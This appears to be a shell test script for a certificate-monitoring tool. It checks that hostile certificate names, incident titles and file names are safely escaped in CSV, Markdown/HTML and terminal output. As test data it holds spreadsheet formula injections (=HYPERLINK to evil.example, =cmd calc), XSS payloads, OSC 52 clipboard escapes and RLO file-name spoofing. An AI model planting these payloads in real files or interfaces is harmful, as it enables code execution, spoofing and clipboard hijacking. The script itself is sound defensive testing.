#!/usr/bin/env bash
# Output encoding at every sink (issue 14): certificate- and operator-derived
# strings carrying spreadsheet formulas (=HYPERLINK, =cmd|' /C calc'!A0),
# HTML (<script>), Markdown links, backticks, pipes, headings, ESC, OSC 52,
# C1 controls and U+202E reach
#   - the CCADB appendix CSV (incident report --appendix-csv and the
#     dashboard's download) only as RFC 4180 cells that no spreadsheet reads
#     as a formula: parsed back by Python's csv module, every cell as given
#     with a ' in front of = + - @;
#   - the Markdown draft only as text: rendered by cmark-gfm (GitHub's
#     renderer, with the table, autolink, strikethrough and tagfilter
#     extensions), the hostile draft has exactly the structure of a benign
#     one (headings, links, lists, quotes, emphasis) and shows the payloads
#     as text;
#   - the terminal (check, findings, incident show/list/lint, with hostile
#     file names and stored titles and notes) only escaped as \XX;
# and a 100,000-byte Name is shown cut with a marker, not as null.
. "$(dirname "$0")/lib.sh"
if ! command -v cmark-gfm >/dev/null; then
  fail_ "no cmark-gfm (scripts/install-deps --test installs it)"
  finish
  exit 1
fi
/usr/bin/python3 "$(dirname "$0")/output_encoding_gen.py" "$tmp" || fail_ "generator"
db=$tmp/s.db
ESC=$'\033' BEL=$'\007' RLO=$'\xe2\x80\xae' CSI1=$'\xc2\x9b'
payload="<script>alert(1)</script> [link](http://evil.example/) \`code\` **bold** ~~gone~~"
payload+=" ${ESC}]52;c;cHduZWQ=${BEL}${RLO}gnp.exe ${CSI1}31m"
note="# not a heading | a | cell > quote - item [x](javascript:alert(1))"
note+=" <img src=x onerror=alert(1)> https://evil.example/ www.evil.example ${ESC}[2J"

# raw_free FILE: no ESC, BEL, C1 control or bidi override byte sequence in FILE.
raw_free() {
  /usr/bin/python3 - "$1" <<'PY'
import re, sys
data = open(sys.argv[1], "rb").read()
bad = re.search(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]|"
                rb"\xe2\x81[\xa6-\xa9]|\xef\xbb\xbf|\xd8\x9c", data)
if bad:
    print("raw %r at byte %d of %s" % (bad.group(0), bad.start(), sys.argv[1]))
    sys.exit(1)
PY
}
expect_raw_free() { if raw_free "$1"; then pass_; else fail_ "$2: raw control bytes"; fi; }

# ---- the store: the CA, an incident about the hostile certificate, and a
# benign twin with the same shape to compare the rendered drafts with.
expect_status 0 "$CAGUARD" --store "$db" ingest "$tmp/ca.pem"
expect_status 0 "$CAGUARD" --store "$db" incident open --kind misissuance \
  --reported-at 2025-01-10T00:00:00Z --title "$payload" "$tmp/leaf.pem"
expect_raw_free "$tmp/err" "incident open"
expect_status 0 "$CAGUARD" --store "$db" incident event 1 --type preliminary-report \
  --at 2025-01-11T00:00:00Z --note "$note"
expect_status 0 "$CAGUARD" --store "$db" incident open --kind misissuance \
  --reported-at 2025-01-10T00:00:00Z --title "Plain title" "$tmp/plain.pem"
expect_status 0 "$CAGUARD" --store "$db" incident event 2 --type preliminary-report \
  --at 2025-01-11T00:00:00Z --note "plain note"

# ---- CSV: Python's reader gets every cell back; none starts a formula.
expect_status 0 "$CAGUARD" --store "$db" incident report 1 --at 2025-02-01T00:00:00Z \
  --appendix-csv "$tmp/app.csv"
cp "$tmp/out" "$tmp/hostile.md"
csv_check() {
  /usr/bin/python3 - "$1" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
assert len(rows) == 2 and len(rows[0]) == 11 and len(rows[1]) == 11, rows
for row in rows:
    for cell in row:
        s = cell.lstrip(" ")
        assert not s or s[0] not in "=+-@\t\r\n", "formula cell %r" % cell
names = rows[1][rows[0].index("dNSNames")]
want = ("'" + '=HYPERLINK("http://evil.example/?"&A1;"click"),=cmd|\'?/C?calc\'!A0,+1+cmd,'
        "-2+3,@SUM(1+1),<script>alert(1)</script>,[link](http://evil.example/),a`b``c,"
        "#heading,>quote,-item,a|b,x?[31my")
assert names == want, "dNSNames cell %r" % names
assert rows[1][rows[0].index("Serial #")] == "1001"
print("csv ok")
PY
}
if csv_check "$tmp/app.csv" >"$tmp/csv.out" 2>&1; then pass_; else fail_ "CSV: $(cat "$tmp/csv.out")"; fi
expect_grep $'\r$' "$tmp/app.csv" # RFC 4180 line ends

# ---- Markdown: the hostile draft renders to the benign draft's structure.
expect_status 0 "$CAGUARD" --store "$db" incident report 2 --at 2025-02-01T00:00:00Z
cp "$tmp/out" "$tmp/plain.md"
expect_raw_free "$tmp/hostile.md" "Markdown draft"
gfm() { cmark-gfm --extension table --extension autolink --extension strikethrough \
  --extension tagfilter "$1"; }
gfm "$tmp/hostile.md" >"$tmp/hostile.html"
gfm "$tmp/plain.md" >"$tmp/plain.html"
# Every element the renderer made, in order, with only crt.sh links kept.
structure() { grep -oE '<(/?[a-z0-9]+)( href="https://crt\.sh/)?' "$1" | sed 's/ href=.*/ crt.sh/'; }
structure "$tmp/hostile.html" >"$tmp/hostile.tags"
structure "$tmp/plain.html" >"$tmp/plain.tags"
# (code spans aside: the hostile certificate has 13 dNSNames, its twin one)
if diff <(grep -v '^</\?code$' "$tmp/plain.tags") <(grep -v '^</\?code$' "$tmp/hostile.tags") \
  >"$tmp/tags.diff"; then
  pass_
else
  fail_ "the hostile draft renders to another structure:"; head -20 "$tmp/tags.diff" >&2
fi
expect_no_grep '<script|<img|<a href="(http://evil|javascript)|<del>|<blockquote>|<h1>|<em>' \
  "$tmp/hostile.html"
# The payloads are there as text (nothing lost).
expect_grep '&lt;script&gt;alert\(1\)&lt;/script&gt; \[link\]\(http://evil\.example/\) `code` \*\*bold\*\* ~~gone~~ \\1B\]52;c;cHduZWQ=\\07\\E2\\80\\AEgnp\.exe \\C2\\9B31m' \
  "$tmp/hostile.html"
expect_grep '# not a heading \| a \| cell &gt; quote - item \[x\]\(javascript:alert\(1\)\) &lt;img src=x onerror=alert\(1\)&gt; https://evil\.example/ www\.evil\.example \\1B\[2J' \
  "$tmp/hostile.html"
expect_grep '<code>=HYPERLINK\(&quot;http://evil\.example/\?&quot;&amp;A1;&quot;click&quot;\)</code>, <code>=cmd\|' \
  "$tmp/hostile.html"
expect_grep '<code>&lt;script&gt;alert\(1\)&lt;/script&gt;</code>, <code>\[link\]\(http://evil\.example/\)</code>, <code>a`b``c</code>, <code>#heading</code>' \
  "$tmp/hostile.html"
# and caguard's own lint reads it as it reads the benign draft: the same
# fields left to fill in, none broken by the escaping (the heuristic aside:
# only the hostile incident has its defect rules)
lint_fields() { grep -o 'incident\.report_incomplete: .*' "$1" | grep -v "'Incident heuristic'"; }
expect_status 1 "$CAGUARD" incident lint "$tmp/plain.md"
lint_fields "$tmp/out" >"$tmp/lint.plain"
expect_status 1 "$CAGUARD" incident lint "$tmp/hostile.md"
lint_fields "$tmp/out" >"$tmp/lint.hostile"
if [ -s "$tmp/lint.plain" ] && diff "$tmp/lint.plain" "$tmp/lint.hostile" >"$tmp/lint.diff"; then
  pass_
else
  fail_ "lint reads the hostile draft otherwise:"; head -20 "$tmp/lint.diff" >&2
fi

# ---- terminal: file names, stored titles and notes, certificate names.
evil=$tmp/"le${ESC}]52;c;cHduZWQ=${BEL}af${RLO}mep.pem"
cp "$tmp/leaf.pem" "$evil"
expect_status 1 "$CAGUARD" check "$evil" "$tmp/ca.pem"
expect_raw_free "$tmp/out" "check"
expect_grep '/le\\1B\]52;c;cHduZWQ=\\07af\\E2\\80\\AEmep\.pem #0: certificate' "$tmp/out"
expect_grep 'issuer  CN=Hostile Test CA \\E2\\80\\AE1,O=Hostile Test CA' "$tmp/out"
# the JSON form keeps the name exactly (JSON escapes are for programs)
expect_status 1 "$CAGUARD" check --format json "$evil"
expect_grep '"file":"[^"]*/le\\u001B\]52;c;cHduZWQ=\\u0007af\\u202Emep\.pem"' "$tmp/out"
# a stored file name (a store of its own: the first sighting names the object)
expect_status 1 "$CAGUARD" --store "$tmp/names.db" ingest "$tmp/ca.pem" "$evil"
expect_raw_free "$tmp/out" "ingest"
expect_status 1 "$CAGUARD" --store "$tmp/names.db" findings
expect_raw_free "$tmp/out" "findings"
expect_grep 'le\\1B\]52;c;cHduZWQ=\\07af\\E2\\80\\AEmep\.pem #0' "$tmp/out"
expect_status 0 "$CAGUARD" --store "$db" incident show 1
expect_raw_free "$tmp/out" "incident show"
expect_grep '^incident 1: <script>alert\(1\)</script> .* \\1B\]52;c;cHduZWQ=\\07\\E2\\80\\AEgnp\.exe \\C2\\9B31m$' "$tmp/out"
expect_grep 'subject CN=evil\\1B\]52\\;c\\;ZWNobyBwd25lZA==\\07\\E2\\80\\AEmoc\.example' "$tmp/out"
expect_grep 'preliminary-report +# not a heading .* \\1B\[2J$' "$tmp/out"
expect_status 0 "$CAGUARD" --store "$db" incident list
expect_raw_free "$tmp/out" "incident list"
expect_grep '^1 +misissuance .*gnp\.exe \\C2\\9B31m$' "$tmp/out"
cp "$tmp/hostile.md" "$evil.md"
expect_status 1 "$CAGUARD" incident lint "$evil.md"
expect_raw_free "$tmp/out" "incident lint"

# ---- the dashboard: the same CSV, escaped HTML.
expect_status 1 "$CAGUARD" --store "$db" report --html "$tmp/site" --at 2025-02-01T00:00:00Z
if cmp -s "$tmp/site/incident-1-appendix.csv" "$tmp/app.csv"; then pass_; else
  fail_ "the dashboard's appendix CSV differs from incident report's"; fi
expect_no_grep '<script>alert|<img src=x' "$tmp/site/incident-1.html"
expect_raw_free "$tmp/site/incident-1.html" "dashboard"

# ---- a 100,000-byte Name: cut with a marker, never null.
expect_status 1 "$CAGUARD" check --format json "$tmp/big.pem"
expect_grep '"issuer":"CN=B{100,}\.\.\.\[cut, 100025-byte name\]"' "$tmp/out"
expect_status 1 "$CAGUARD" check "$tmp/big.pem"
expect_grep '^  issuer  CN=BBBB.*\.\.\.\[cut, 100025-byte name\]$' "$tmp/out"
finish
